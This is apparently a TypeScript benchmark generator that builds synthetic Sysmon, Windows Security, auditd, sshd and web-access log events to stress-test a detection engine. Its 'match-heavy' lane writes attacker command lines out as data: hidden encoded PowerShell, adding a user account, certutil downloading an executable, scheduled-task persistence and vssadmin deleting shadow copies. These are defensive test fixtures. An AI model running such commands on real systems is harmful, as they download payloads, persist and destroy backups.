// Lines for bench/engine.ts, from a seed: the same on every machine. Command lines, paths and addresses are put together anew
// for every event (thousands of distinct values), since few distinct values would flatter an engine that remembers.

export interface Lane { readonly name: string; readonly event: (random: Random, n: number) => Readonly<Record<string, unknown>> }
export interface Random { int(below: number): number; of<T>(items: readonly T[]): T; hex(digits: number): string; word(): string }

export function eventsOf({ name, event }: Lane, count: number): string[] {
  const random = seeded([...name].reduce((sum, character) => Math.imul(sum, 31) + character.charCodeAt(0) | 0, 7));
  return Array.from({ length: count }, (_, n) => JSON.stringify(event(random, n)));
}

function seeded(seed: number): Random {
  let state = seed >>> 0;
  const next = (): number => { // mulberry32
    state = state + 0x6d2b79f5 | 0;
    let mixed = Math.imul(state ^ state >>> 15, 1 | state);
    mixed = mixed + Math.imul(mixed ^ mixed >>> 7, 61 | mixed) ^ mixed;
    return ((mixed ^ mixed >>> 14) >>> 0) / 4294967296;
  };
  const int = (below: number): number => Math.floor(next() * below);
  const of = <T>(items: readonly T[]): T => items[int(items.length)] as T;
  const hex = (digits: number): string => Array.from({ length: digits }, () => int(16).toString(16)).join('');
  return { int, of, hex, word: () => Array.from({ length: 3 + int(5) }, () => of('bdfghklmnprstvz'.split('')) + of(['a', 'e', 'i', 'o', 'u'])).join('') };
}

const PROGRAMS = ['svchost.exe', 'chrome.exe', 'msedge.exe', 'explorer.exe', 'Teams.exe', 'WINWORD.EXE', 'cmd.exe', 'powershell.exe', 'conhost.exe', 'rundll32.exe', 'MsMpEng.exe', 'git.exe', 'node.exe', 'OneDrive.exe', 'taskhostw.exe', 'unikey.exe'];
const FOLDERS = ['C:\\Windows\\System32', 'C:\\Program Files\\Common Files', 'C:\\Program Files (x86)\\Vendor', 'C:\\Users\\hoa\\AppData\\Local\\Programs', 'D:\\Apps'];
const time = (n: number): string => new Date(Date.UTC(2026, 10, 20) + n * 137).toISOString();

function commandLine(random: Random): string {
  const parts = [`"${random.of(FOLDERS)}\\${random.of(PROGRAMS)}"`];
  for (let i = random.int(9); i >= 0; i--) parts.push(random.of([`--${random.word()}=${random.word()}`, `-${random.of(['k', 'p', 's', 'q'])} ${random.word()}`, `/${random.word()}`, `C:\\Users\\${random.word()}\\${random.word()}.${random.of(['txt', 'log', 'dat', 'json'])}`, `{${random.hex(8)}-${random.hex(4)}}`]));
  return parts.join(' ');
}

function processCreation(random: Random, n: number, line = commandLine(random)): Record<string, unknown> {
  const program = random.of(PROGRAMS), parent = random.of(PROGRAMS), image = `${random.of(FOLDERS)}\\${program}`;
  return {
    '@timestamp': time(n), Channel: 'Microsoft-Windows-Sysmon/Operational', EventID: 1, Provider_Name: 'Microsoft-Windows-Sysmon', Computer: `ws-${random.int(400)}.xa.example`, EventRecordID: n, Level: 4, Task: 1, Version: 5,
    RuleName: '-', UtcTime: time(n), ProcessGuid: `{${random.hex(8)}-${random.hex(4)}-${random.hex(12)}}`, ProcessId: random.int(30_000), Image: image, FileVersion: `10.0.${random.int(20_000)}.${random.int(900)}`,
    Description: `${random.word()} ${random.word()} host`, Product: 'Vendor Operating System', Company: 'Vendor Corporation', OriginalFileName: program, CommandLine: line, CurrentDirectory: `${random.of(FOLDERS)}\\`,
    User: `XA\\${random.word()}`, LogonGuid: `{${random.hex(8)}-${random.hex(12)}}`, LogonId: `0x${random.hex(6)}`, TerminalSessionId: random.int(4), IntegrityLevel: random.of(['Medium', 'High', 'System']),
    Hashes: `MD5=${random.hex(32).toUpperCase()},SHA256=${random.hex(64).toUpperCase()},IMPHASH=${random.hex(32).toUpperCase()}`, ParentProcessGuid: `{${random.hex(8)}-${random.hex(12)}}`, ParentProcessId: random.int(30_000),
    ParentImage: `${random.of(FOLDERS)}\\${parent}`, ParentCommandLine: commandLine(random), ParentUser: `XA\\${random.word()}`,
  };
}

const base64 = (random: Random, length: number): string => Array.from({ length }, () => random.of([...'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/'])).join('');

export const LANES: readonly Lane[] = [
  { name: 'W1 sysmon process', event: (random, n) => processCreation(random, n) },
  { name: 'W2 windows security', event: (random, n) => ({
    '@timestamp': time(n), Channel: 'Security', EventID: random.of([4624, 4625, 4634, 4648, 4672, 4688, 4769, 5140, 5156]), Provider_Name: 'Microsoft-Windows-Security-Auditing', Computer: `dc-${random.int(4)}.xa.example`, EventRecordID: n, Level: 0,
    Keywords: '0x8020000000000000', SubjectUserSid: `S-1-5-21-${random.int(1e9)}-${random.int(1e9)}-${random.int(9999)}`, SubjectUserName: random.word(), SubjectDomainName: 'XA', SubjectLogonId: `0x${random.hex(6)}`,
    TargetUserSid: `S-1-5-21-${random.int(1e9)}-${random.int(9999)}`, TargetUserName: random.word(), TargetDomainName: 'XA', TargetLogonId: `0x${random.hex(6)}`, LogonType: random.of([2, 3, 5, 7, 10]), LogonProcessName: 'Kerberos',
    AuthenticationPackageName: random.of(['Kerberos', 'NTLM', 'Negotiate']), WorkstationName: `WS-${random.int(400)}`, IpAddress: `192.0.2.${random.int(250)}`, IpPort: 1024 + random.int(60_000), ProcessName: `${random.of(FOLDERS)}\\${random.of(PROGRAMS)}`,
    ServiceName: random.word(), TicketOptions: '0x40810000', TicketEncryptionType: '0x12', Status: '0x0', ObjectName: `\\Device\\${random.word()}`, AccessMask: '0x1',
  }) },
  { name: 'W4 auditd', event: (random, n) => ({
    '@timestamp': time(n), 'event.dataset': 'auditd.log', 'auditd.log.record_type': random.of(['EXECVE', 'SYSCALL', 'PATH']), 'auditd.log.sequence': n, 'host.name': `srv-${random.int(40)}`, 'process.executable': `/usr/bin/${random.of(['ls', 'bash', 'python3', 'curl', 'systemctl', random.word()])}`,
    'process.name': random.word(), 'process.pid': random.int(60_000), 'user.name': random.of(['root', 'www-data', random.word()]), 'auditd.log.a0': random.of(['ls', 'bash', 'curl', random.word()]), 'auditd.log.a1': `-${random.of(['l', 'c', 'x'])}`, 'auditd.log.a2': `/var/${random.word()}/${random.word()}`,
    'auditd.log.key': random.of(['exec', 'perm', 'access']), 'auditd.log.syscall': random.of(['execve', 'openat', 'unlink']), 'auditd.log.tty': 'pts0', message: `type=EXECVE msg=audit(${n}): argc=3 a0="${random.word()}" a1="${random.word()}"`,
  }) },
  { name: 'W5 sshd', event: (random, n) => {
    const message = random.of([`Failed password for invalid user ${random.word()} from 198.51.100.${random.int(250)} port ${random.int(60_000)} ssh2`, `Accepted publickey for ${random.word()} from 192.0.2.${random.int(250)} port ${random.int(60_000)} ssh2`, `Connection closed by 203.0.113.${random.int(250)} port ${random.int(60_000)} [preauth]`]);
    return { '@timestamp': time(n), 'event.dataset': 'linux.sshd', 'log.syslog.appname': 'sshd', 'log.syslog.facility.code': 10, 'host.name': `srv-${random.int(40)}`, 'process.pid': random.int(60_000), message, 'event.original': `<86>Nov 20 10:00:00 srv-1 sshd[${random.int(60_000)}]: ${message}` };
  } },
  { name: 'W6 web access', event: (random, n) => ({
    '@timestamp': time(n), 'cs-method': random.of(['GET', 'GET', 'GET', 'POST', 'HEAD']), 'cs-uri-stem': `/${random.word()}/${random.word()}.${random.of(['html', 'php', 'aspx', 'js', 'png'])}`, 'cs-uri-query': `trang=${random.int(99)}&tim=${random.word()}+${random.word()}&ma=${random.hex(12)}`,
    'sc-status': random.of([200, 200, 200, 304, 404, 500]), 'c-ip': `203.0.113.${random.int(250)}`, 'cs-host': 'dichvucong.xa.example', 'cs-referer': `https://dichvucong.xa.example/${random.word()}`,
    'cs-user-agent': `Mozilla/5.0 (${random.of(['Windows NT 10.0; Win64; x64', 'X11; Linux x86_64', 'Linux; Android 15'])}) AppleWebKit/537.36 Chrome/${100 + random.int(45)}.0.${random.int(9999)}.${random.int(200)} Safari/537.36`, 'sc-bytes': random.int(90_000),
  }) },
  { name: 'W9 match-heavy', event: (random, n) => processCreation(random, n, random.of([
    `powershell.exe -NoP -w hidden -EncodedCommand ${base64(random, 40)}`, `cmd.exe /c whoami /all & net user ${random.word()} /add`, `rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication" ${random.word()}`,
    `certutil.exe -urlcache -split -f http://198.51.100.${random.int(250)}/${random.word()}.exe`, `schtasks /create /tn ${random.word()} /tr C:\\Users\\Public\\${random.word()}.exe /sc minute`, `vssadmin delete shadows /all /quiet ${random.word()}`])) },
  { name: 'W10 adversarial', event: (random, n) => processCreation(random, n, [
    (): string => `powershell -e ${base64(random, 4000)}`, (): string => 'powershel powershell.ex -encodedcomman '.repeat(60) + random.word(), (): string => `${'ỗÉĐ\u212a\u0130'.repeat(200)} cmd.exe /c ${random.word()}`,
    (): string => `${' -'.repeat(1500)}${random.word()}`, (): string => `http://${'a'.repeat(3000)}.${random.word()}`][n % 5]?.() ?? '') },
];
